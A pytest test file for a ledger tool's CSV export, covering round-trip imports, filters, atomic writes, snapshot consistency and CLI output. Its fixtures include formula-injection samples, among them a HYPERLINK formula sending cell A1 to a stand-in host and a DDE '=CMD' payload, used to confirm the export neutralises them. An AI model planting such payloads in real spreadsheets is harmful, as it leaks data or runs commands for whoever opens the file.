"""CSV export (data/ledger/export.py and `fincast export`) on real ledger files: the file comes
back through Fincast's own importer as the same rows, per account and per currency; filters;
no cell a spreadsheet would run; written whole or not at all; one snapshot while another
connection imports. What the command refuses is in test_cli_output_file.py."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import json
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from data.ledger import EXPORT_HEADER, Ledger, LedgerError, TxFilter
from data.ledger import export as export_module
from data.money import format_decimal
from tests.helpers.cli_run import refused, run

FINCAST = Path(sys.executable).with_name("fincast")

# descriptions a bank really sends, and some a hostile one might: commas, quotes, a line break
# inside a quoted cell, spreadsheet formula starts, non-ASCII
HOSTILE = [
    "TESCO STORES 3297, LONDON",
    'SAY "HELLO" LTD',
    "MULTI\nLINE MEMO",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+44 20 7946 0000 PHONE",
    "-REFUND- AMAZON",
    "@SUM(1+1)",
    "CAFÉ MÜNCHEN ÄÖÜ ß",
    "東京 ラーメン",
    "  LEADING   AND  DOUBLE  SPACES ",
]


def statement(path: Path, rows: list[tuple[str, str, str]]) -> Path:
    """A plain bank CSV (Date, Description, Amount) written with the csv module."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Date", "Description", "Amount"])
        writer.writerows(rows)
    return path


def key_rows(ledger: Ledger, account: str | None = None) -> Counter[tuple[Any, ...]]:
    """The multiset of (date, amount in minor units, currency, description)."""
    flt = TxFilter(account=account) if account else None
    return Counter(
        (t.date, t.amount, t.currency, t.description) for t in ledger.iter_transactions(flt)
    )


@pytest.fixture
def multi(tmp_path: Path) -> Path:
    """A ledger of three accounts in pounds, yen (no minor unit) and dinars (three decimals),
    with hostile descriptions, two identical purchases on one day, and some categories."""
    db = tmp_path / "multi.sqlite"
    src = tmp_path / "src"
    src.mkdir()
    gbp = [
        (f"2024-01-{i % 28 + 1:02d}", d, f"-{i + 1}.{i * 7 % 100:02d}")
        for i, d in enumerate(HOSTILE)
    ]
    gbp += [("2024-02-01", "COFFEE", "-2.50"), ("2024-02-01", "COFFEE", "-2.50")]
    gbp += [("2024-02-02", "ACME PAYROLL", "2500.00")]
    jpy = [(f"2024-03-{i + 1:02d}", f"セブンイレブン {i}", f"-{(i + 1) * 1234}") for i in range(12)]
    jpy += [("2024-03-20", "=CMD|' /C CALC'!A0", "-500"), ("2024-03-21", "SALARY", "300000")]
    bhd = [
        (f"2024-04-{i + 1:02d}", f"LULU HYPERMARKET {i}", f"-{i + 1}.{i * 37 % 1000:03d}")
        for i in range(12)
    ]
    bhd += [("2024-04-20", "-MINUS FIRST", "-0.005"), ("2024-04-21", "REFUND", "12.340")]
    with Ledger.open(db) as ledger:
        ledger.import_file(statement(src / "gbp.csv", gbp), "Current", currency="GBP")
        ledger.import_file(statement(src / "jpy.csv", jpy), "Yen wallet", currency="JPY")
        ledger.import_file(statement(src / "bhd.csv", bhd), "Dinar, savings", currency="BHD")
        some = [t.id for t in ledger.iter_transactions()][::3]
        ledger.set_category(some[::2], "Groceries")
        ledger.set_category(some[1::2], "=Formula category", source="rule")
    return db


def read_export(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("account", ["Current", "Yen wallet", "Dinar, savings"])
def test_an_account_exported_imports_back_as_the_same_rows(
    multi: Path, tmp_path: Path, account: str
) -> None:
    out = tmp_path / "export.csv"
    with Ledger.open(multi) as ledger:
        currency = ledger.account_currency(account, "")
        written = ledger.export_csv(out, TxFilter(account=account))
        before = key_rows(ledger, account)
    assert written == sum(before.values()) > 10
    with Ledger.open(tmp_path / "fresh.sqlite") as fresh:
        # as `fincast import FILE --account NAME --currency CODE` does for a new account;
        # no mapping and no answers: the importer recognises the file by itself
        result = fresh.import_file(out, account, currency=currency)
        assert (result.imported, result.duplicates, result.errors) == (written, 0, ())
        assert key_rows(fresh, account) == before


@pytest.mark.parametrize("account", ["Current", "Yen wallet"])
def test_with_no_options_at_all_the_import_reads_the_file_right(
    multi: Path, tmp_path: Path, account: str
) -> None:
    out = tmp_path / "export.csv"
    with Ledger.open(multi) as ledger:
        ledger.export_csv(out, TxFilter(account=account))
        before = key_rows(ledger, account)
    with Ledger.open(tmp_path / "fresh.sqlite") as fresh:
        fresh.import_file(out, account)  # a new account, its currency left to the default
        assert key_rows(fresh, account) == before


def test_dinars_imported_into_a_new_account_without_its_currency(
    multi: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    with Ledger.open(multi) as ledger:
        ledger.export_csv(out, TxFilter(account="Dinar, savings"))
        before = key_rows(ledger, "Dinar, savings")
    with Ledger.open(tmp_path / "fresh.sqlite") as fresh:
        fresh.import_file(out, "Dinar, savings")
        assert key_rows(fresh, "Dinar, savings") == before


def test_the_file_is_plain_utf8_csv_with_exact_amounts_and_no_formula_cells(
    multi: Path, tmp_path: Path
) -> None:
    out = tmp_path / "all.csv"
    with Ledger.open(multi) as ledger:
        written = ledger.export_csv(out)
        txns = list(ledger.iter_transactions(order="date_asc"))
    data = out.read_bytes()
    assert data.startswith(b"date,account,description,")  # no byte-order mark
    assert b"\r" not in data  # "\n" line ends, also inside quoted cells
    assert out.stat().st_mode & 0o777 == 0o600
    rows = read_export(out)
    assert tuple(rows[0]) == EXPORT_HEADER and len(rows) == written == len(txns)
    decimal = re.compile(r"-?\d+(\.\d+)?")
    for cells, txn in zip(rows, txns, strict=True):
        assert cells["date"] == txn.date.isoformat()
        assert cells["amount"] == format_decimal(txn.amount, txn.currency)
        assert decimal.fullmatch(cells["amount"])
        assert cells["currency"] == txn.currency
        for name in ("account", "description", "vendor", "category"):
            assert cells[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), cells
        # the guard is one leading space and nothing else: stripping it gives the stored text
        assert cells["description"].strip() == txn.description
        assert cells["vendor"].strip() == txn.payee
        assert cells["account"].strip() == txn.account
        assert cells["category"].strip() == (txn.category or "")
        assert cells["category_source"] == (txn.category_source or "")
    amounts = {r["currency"]: r["amount"] for r in rows}
    assert re.fullmatch(r"-?\d+", amounts["JPY"]) and re.fullmatch(r"-?\d+\.\d{3}", amounts["BHD"])
    assert any(r["description"].startswith(" =") for r in rows)
    assert any(r["category"] == " =Formula category" for r in rows)


@pytest.mark.parametrize(
    "flt",
    [
        TxFilter(account="Yen wallet"),
        TxFilter(date_from=dt.date(2024, 1, 10), date_to=dt.date(2024, 3, 5)),
        TxFilter(category="Groceries"),
        TxFilter(text="coffee"),
        TxFilter(text="hypermarket", account="Dinar, savings"),
        TxFilter(uncategorized=True),
        TxFilter(text="no such text anywhere"),
    ],
    ids=["account", "dates", "category", "text", "text+account", "uncategorized", "nothing"],
)
def test_a_filtered_export_holds_exactly_the_filters_rows_oldest_first(
    multi: Path, tmp_path: Path, flt: TxFilter
) -> None:
    out = tmp_path / "part.csv"
    with Ledger.open(multi) as ledger:
        written = ledger.export_csv(out, flt)
        expected = ledger.transactions(flt, limit=10_000, order="date_asc")
        total = ledger.count()
    rows = read_export(out)
    assert written == len(rows) == len(expected) < total
    assert [(r["date"], r["description"].strip()) for r in rows] == [
        (t.date.isoformat(), t.description) for t in expected
    ]


def test_an_open_handle_gets_the_same_text_as_a_file(multi: Path, tmp_path: Path) -> None:
    out = tmp_path / "file.csv"
    handle = io.StringIO(newline="")
    with Ledger.open(multi) as ledger:
        to_file = ledger.export_csv(out)
        to_handle = ledger.export_csv(handle)
    assert to_file == to_handle
    assert handle.getvalue() == out.read_text(encoding="utf-8")


@pytest.fixture
def big(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A ledger of 300 rows, exported in pages (and progress calls) of 40."""
    monkeypatch.setattr(export_module, "PROGRESS_EVERY", 40)
    rows = [(f"2024-05-{i % 28 + 1:02d}", f"SHOP {i}", f"-{i}.99") for i in range(300)]
    db = tmp_path / "big.sqlite"
    with Ledger.open(db) as ledger:
        ledger.import_file(statement(tmp_path / "big-src.csv", rows), "Main")
    return db


class Boom(Exception):
    pass


@pytest.mark.parametrize("existing", [False, True])
def test_a_failure_half_way_leaves_no_file_and_keeps_the_old_one(
    big: Path, tmp_path: Path, existing: bool
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "export.csv"
    if existing:
        target.write_text("my old export\n")
    seen: list[int] = []

    def progress(rows: int) -> None:
        seen.append(rows)
        assert target.read_text() == "my old export\n" if existing else not target.exists()
        if rows >= 120:
            raise Boom  # e.g. the window closing, or the machine going to sleep

    with Ledger.open(big) as ledger, pytest.raises(Boom):
        ledger.export_csv(target, progress=progress)
    assert seen == [40, 80, 120]
    assert sorted(p.name for p in folder.iterdir()) == (["export.csv"] if existing else [])
    if existing:
        assert target.read_text() == "my old export\n"


def test_a_full_disk_is_a_clear_error_and_leaves_nothing(
    big: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_writer = csv.writer

    class FillingWriter:
        """The csv writer, until the disk fills up after 100 rows."""

        def __init__(self, handle: Any, **kwargs: Any) -> None:
            self._inner = real_writer(handle, **kwargs)
            self.rows = 0

        def writerow(self, row: Any) -> Any:
            self.rows += 1
            if self.rows > 100:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return self._inner.writerow(row)

    monkeypatch.setattr(export_module.csv, "writer", FillingWriter)
    target = tmp_path / "out" / "export.csv"
    target.parent.mkdir()
    with Ledger.open(big) as ledger, pytest.raises(LedgerError, match="No space left"):
        ledger.export_csv(target)
    assert list(target.parent.iterdir()) == []


def test_the_export_is_one_snapshot_while_another_connection_imports(
    big: Path, tmp_path: Path
) -> None:
    """Rows imported half-way through (older and newer than the page being read) neither
    appear nor shift the pages: no row twice, none missing."""
    late = statement(
        tmp_path / "late.csv",
        [("2024-05-01", f"EARLY LATE {i}", "-1.00") for i in range(50)]
        + [("2024-06-30", f"NEW LATE {i}", "-1.00") for i in range(50)],
    )
    target = tmp_path / "snap.csv"
    with Ledger.open(big) as ledger, Ledger.open(big) as other:
        before = [
            (t.date.isoformat(), t.description) for t in ledger.iter_transactions(order="date_asc")
        ]

        def progress(rows: int) -> None:
            if rows == 40:
                other.import_file(late, "Main")

        ledger.export_csv(target, progress=progress)
        assert other.count() == len(before) + 100  # the import did commit meanwhile
    assert [(r["date"], r["description"]) for r in read_export(target)] == before


def test_the_library_refuses_the_ledger_itself_and_an_existing_file_without_overwrite(
    multi: Path, tmp_path: Path
) -> None:
    kept = tmp_path / "kept.csv"
    kept.write_text("keep me\n")
    with Ledger.open(multi) as ledger:
        before = ledger.dump()
        for target in (multi, Path(f"{multi}-wal")):
            with pytest.raises(LedgerError, match="ledger being read"):
                ledger.export_csv(target)
        with pytest.raises(LedgerError, match="already exists"):
            ledger.export_csv(kept, overwrite=False)
        assert ledger.dump() == before
    assert kept.read_text() == "keep me\n"


def test_without_overwrite_a_file_that_appears_meanwhile_is_kept(big: Path, tmp_path: Path) -> None:
    target = tmp_path / "race.csv"

    def progress(rows: int) -> None:
        if rows == 40:
            target.write_text("someone else's file\n")  # e.g. another export started later

    with Ledger.open(big) as ledger, pytest.raises(LedgerError, match="already exists"):
        ledger.export_csv(target, progress=progress, overwrite=False)
    assert target.read_text() == "someone else's file\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# -- the command line ----------------------------------------------------------------------


def test_cli_export_says_how_many_went_where(
    multi: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "yen.csv"
    code, out, err = run(capsys, "export", target, "--db", multi, "--account", "Yen wallet")
    assert code == 0, err
    with Ledger.open(multi) as ledger:
        expected = ledger.count(TxFilter(account="Yen wallet"))
    assert out == f"exported {expected} transactions to {target}\n"
    assert len(read_export(target)) == expected

    code, out, err = run(
        capsys, "export", target, "--db", multi, "--from", "2024-03-05", "--to", "2024-03-10",
        "--text", "セブン", "--force", "--json",
    )  # fmt: skip
    assert code == 0, err
    assert json.loads(out) == {"exported": 6, "file": str(target)}
    assert [r["date"] for r in read_export(target)] == [f"2024-03-{d:02d}" for d in range(5, 11)]

    code, out, err = run(
        capsys, "export", target, "--db", multi, "--category", "Groceries", "--force"
    )
    assert code == 0, err
    assert {r["category"] for r in read_export(target)} == {"Groceries"}


def test_cli_export_filters_parse_like_transactions(
    multi: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same options give the same rows as `fincast transactions --json`."""
    options = ["--account", "Current", "--from", "2024-01-05", "--text", "e"]
    code, out, err = run(capsys, "transactions", "--db", multi, "--json", *options)
    assert code == 0, err
    listed = sorted((t["date"], t["description"]) for t in json.loads(out))
    code, _, err = run(capsys, "export", tmp_path / "x.csv", "--db", multi, *options)
    assert code == 0, err
    exported = sorted(
        (r["date"], r["description"].strip()) for r in read_export(tmp_path / "x.csv")
    )
    assert exported == listed and listed


def test_the_real_console_script_exports_and_refuses_cleanly(multi: Path, tmp_path: Path) -> None:
    target = tmp_path / "all.csv"
    done = subprocess.run(
        [FINCAST, "export", target, "--db", multi, "--json"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with Ledger.open(multi) as ledger:
        assert json.loads(done.stdout) == {"exported": ledger.count(), "file": str(target)}
    again = subprocess.run(
        [FINCAST, "export", target, "--db", multi],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    refused(again.returncode, again.stdout, again.stderr)
    assert "already exists" in again.stderr
